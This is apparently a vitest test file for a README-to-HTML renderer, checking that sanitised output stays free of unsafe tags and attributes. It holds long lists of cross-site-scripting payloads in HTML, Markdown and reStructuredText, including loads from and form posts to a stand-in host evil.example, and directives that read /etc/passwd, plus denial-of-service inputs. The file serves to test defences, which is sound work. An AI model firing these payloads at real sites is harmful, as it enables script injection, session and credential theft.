import { Parser } from 'htmlparser2';
import { describe, expect, test } from 'vitest';
import { renderDescription } from './render-description.ts';

const ALLOWED_ATTRIBUTES =
  /^(?:id|class|title|lang|dir|href|rel|open|start|reversed|type|value|colspan|rowspan|scope|datetime|tabindex)$/;
const FORBIDDEN_TAGS =
  /^(?:script|style|svg|math|img|iframe|object|embed|form|input|button|textarea|select|link|meta|base|html|body|head|template|audio|video|source|picture|canvas|frame|frameset|noscript|dialog|slot|portal|marquee)$/;

/** All that must not be in the HTML of a description. */
function findProblems(html: string): string[] {
  const problems: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (FORBIDDEN_TAGS.test(name) || !/^[a-z][a-z1-6]*$/.test(name)) problems.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!ALLOWED_ATTRIBUTES.test(attribute)) problems.push(`${attribute}=${value}`);
        if (attribute === 'href' && !/^(?:https?:\/\/|mailto:|#readme-)/i.test(value)) problems.push(value);
        if (attribute === 'tabindex' && value !== '0') problems.push(`tabindex=${value}`);
        if (attribute === 'id' && !value.startsWith('readme-')) problems.push(`#${value}`);
        if (attribute === 'class' && !/^(?:(?:readme|language|hljs)[-\w+#. ]*)+$/.test(value))
          problems.push(`.${value}`);
      }
      if (
        attributes['href'] &&
        !attributes['href'].startsWith('#') &&
        attributes['rel'] !== 'nofollow noopener ugc'
      )
        problems.push(`no rel at ${attributes['href']}`);
    },
    oncomment: (text) => problems.push(`<!--${text}`),
    onprocessinginstruction: (name) => problems.push(`<${name}`),
  });
  parser.end(html);
  return problems;
}

test('the finder of problems finds them', () => {
  const html =
    '<p onclick=x>a<img src=x><a href="javascript:x">b</a><svg></svg><!-- c --><i id=a class=nav style=x>';

  expect(findProblems(html).length).toBeGreaterThan(7);
});

const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script/x>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)//',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<p onclick="alert(1)">a</p>',
  '<p ONMOUSEOVER=alert(1)>a',
  '<details open ontoggle=alert(1)>a</details>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="/+logout">a</a>',
  '<a href="https://ok.example" target=_blank rel=opener ping=//evil.example>a</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//evil.example/pixel.gif">',
  '<picture><source srcset="https://evil.example/x.png"><img src=y></picture>',
  '<p style="background:url(https://evil.example)">a</p>',
  '<style>@import "//evil.example";</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src=x.swf>',
  '<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>log in</button></form>',
  '<textarea><script>alert(1)</script></textarea><select><option>a</select>',
  '<template><script>alert(1)</script></template>',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<p class="bar banner" id="main">a</p><a name=main>b</a>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)',
  '<div><p><a href="https://ok.example"><img src=https://pixel.example/x onerror=alert(1)></div>',
  '<b <script>alert(1)</script>0',
  '<a href="https://ok.example" onclick\n=\nalert(1)>a</a>',
  '<x-element onfocus=alert(1) tabindex=1>a</x-element>',
  '</div></main></body></html><script>alert(1)</script>',
  '<pre tabindex=5 autofocus>a</pre>',
  '<marquee onstart=alert(1)>a</marquee><dialog open>a</dialog>',
];

const MARKDOWN: readonly string[] = [
  '[a](javascript:alert(1))',
  '[a](<javascript:alert(1)>)',
  '![a](javascript:alert(1))',
  '![a"onerror="alert(1)](https://x.example/"onerror="alert(1))',
  '[a]: javascript:alert(1)\n\n[a]',
  '<javascript:alert(1)>',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  '[a](https://x.example "title\\"onclick=alert(1)")',
  '```"><script>alert(1)</script>\na\n```',
  '```python class="x" onclick=alert(1)\nprint(1)\n```',
  '```python\n</code></pre><script>alert(1)</script>\n```',
  '# a {onclick=alert(1)}\n\n# <script>alert(1)</script>',
  '|a|\n|:-:|\n|<script>alert(1)</script>|',
  '[![a](https://x.example/b.svg)](javascript:alert(1))',
];

const RESTRUCTURED: readonly string[] = [
  '.. raw:: html\n\n   <script>alert(1)</script>',
  '.. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<script>alert(1)</script>`',
  ':raw:`<script>alert(1)</script>`',
  '.. include:: /etc/passwd',
  '.. csv-table::\n   :file: /etc/passwd',
  '`a <javascript:alert(1)>`_',
  '.. _a: javascript:alert(1)\n\na_',
  '`a <https://x.example/"onclick="alert(1)>`_',
  '.. image:: javascript:alert(1)\n   :target: javascript:alert(1)',
  '.. image:: https://x.example/a.png\n   :alt: "><script>alert(1)</script>\n   :target: "><script>alert(1)</script>',
  '.. |a| image:: https://x.example/a.png\n   :target: javascript:alert(1)\n\n|a|',
  '.. figure:: "><script>alert(1)</script>',
  '.. code:: "><script>alert(1)</script>\n\n   a',
  '.. code-block:: python\n\n   </code></pre><script>alert(1)</script>',
  '.. container:: "><script>alert(1)</script>\n\n   a',
  '.. class:: "><script>alert(1)</script>\n\na',
  '.. video:: javascript:alert(1)\n\n.. youtube:: "><script>alert(1)</script>',
  '.. meta::\n   :refresh: 0;url=//evil.example',
  '.. math:: \\href{javascript:alert(1)}{x}',
  '<script>alert(1)</script> & &lt;script&gt; &amp;lt;script',
];

describe('nothing runs, loads or leaves by', () => {
  test.each([...ATTACKS, ...MARKDOWN])('Markdown %j', (text) => {
    const html = renderDescription(`before\n\n${text}\n\nafter`, 'text/markdown');

    expect(findProblems(html)).toEqual([]);
    expect(html).toContain('before');
  });

  test.each([...RESTRUCTURED, ...ATTACKS, ...ATTACKS.map((attack) => `.. raw:: html\n\n   ${attack}`)])(
    'reStructuredText %j',
    (text) => {
      const html = renderDescription(`before\n\n${text}\n\nafter`, 'text/x-rst');

      expect(findProblems(html)).toEqual([]);
      expect(html).toMatch(/before[\s\S]*after/);
    },
  );

  test.each([...ATTACKS, 'https://x.example/"onclick="alert(1)', 'https://x.example/<script>alert(1)'])(
    'plain text %j',
    (text) => {
      const html = renderDescription(text, 'text/plain');

      expect(findProblems(html)).toEqual([]);
      expect(html.replace(/<[^>]*>/g, '')).toContain(
        text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`),
      );
    },
  );
});

test.each([
  ['20,000 quotes in each other', '>'.repeat(20_000)],
  ['half-open emphasis', 'a**b'.repeat(20_000)],
  ['20,000 open elements', '<div>'.repeat(20_000)],
  ['a list 500 deep', Array.from({ length: 500 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n')],
  ['open brackets', '[a]('.repeat(20_000)],
  ['backticks', Array.from({ length: 1000 }, (_, count) => `e${'`'.repeat(count)}`).join('')],
  ['open comments', '<!--'.repeat(20_000)],
  ['open attributes', '<a b="'.repeat(10_000)],
  ['one long reference many times', `[a]: https://x.example/${'y'.repeat(5000)}\n\n${'[a] '.repeat(5000)}`],
])('%s are shown in no time', (_, text) => {
  const before = performance.now();
  const html = renderDescription(text, 'text/markdown');

  expect(performance.now() - before).toBeLessThan(4000);
  expect(findProblems(html)).toEqual([]);
  expect(html.length).toBeLessThan(5_000_000);
});

test('substitutions that name each other end', () => {
  const text = ['|a|', '', '.. |a| replace:: |b| |b|', '.. |b| replace:: |a| |a|'].join('\n');

  expect(renderDescription(text, 'text/x-rst')).toContain('readme-text');
});
